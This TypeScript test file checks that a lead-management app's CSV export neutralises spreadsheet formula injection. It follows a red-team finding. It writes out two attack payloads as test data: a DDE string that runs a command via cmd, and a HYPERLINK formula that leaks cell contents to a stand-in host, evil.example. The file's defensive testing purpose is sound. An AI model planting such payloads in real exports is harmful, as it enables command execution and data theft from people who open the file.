/**
 * Red-team finding: a company name `+1+cmd|' /C calc'!A0` or a description
 * `-1+HYPERLINK(…)` was exported as is, because +/- followed by a digit was exempt. Now only a
 * cell that is entirely a number stays unprefixed; every other formula-looking cell becomes text.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { LeadView } from '../../src/core/ports.js';
import { csvCell, leadsCsv } from '../../src/leads/lead-csv.js';

/** The cell's content as a spreadsheet reads it (RFC 4180 quotes removed). */
function unquote(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

const lead = (fields: LeadView['fields']): LeadView => ({
  id: 'L1',
  status: 'new',
  conversation: { channel: 'web', conversationId: 'web:1' },
  fields,
  createdAt: 0,
  recent: [],
  linkedLeadIds: [],
});

describe('CSV export: formula injection', () => {
  it('the reported payloads are exported as text, not formulas', () => {
    const company = "+1+cmd|' /C calc'!A0";
    const description = '-1+HYPERLINK("http://evil.example/x?"&F2&G2,"…")';
    const csv = leadsCsv([lead({ company, description })]);
    expect(csv).toContain(`'${company}`);
    expect(csv).toContain(`"'${description.replace(/"/g, '""')}"`);
    // No cell of the export starts with a formula character.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('every generated formula-looking cell is prefixed with a quote', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠');
    const cell = fc.tuple(start, fc.string({ maxLength: 30 })).map(([a, b]) => a + b).filter((s) => !/^-?\d+(\.\d+)?$/.test(s));
    fc.assert(fc.property(cell, (s) => {
      expect(unquote(csvCell(s))).toBe(`'${s}`);
    }), { numRuns: 2000 });
  });

  it('only a cell that is entirely a number stays as written', () => {
    const num = fc.tuple(fc.boolean(), fc.nat(), fc.option(fc.nat(), { nil: undefined })).map(([neg, i, f]) => `${neg ? '-' : ''}${i}${f === undefined ? '' : `.${f}`}`);
    fc.assert(fc.property(num, (s) => {
      expect(csvCell(s)).toBe(s);
    }));
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('13800138000')).toBe('13800138000');
  });
});
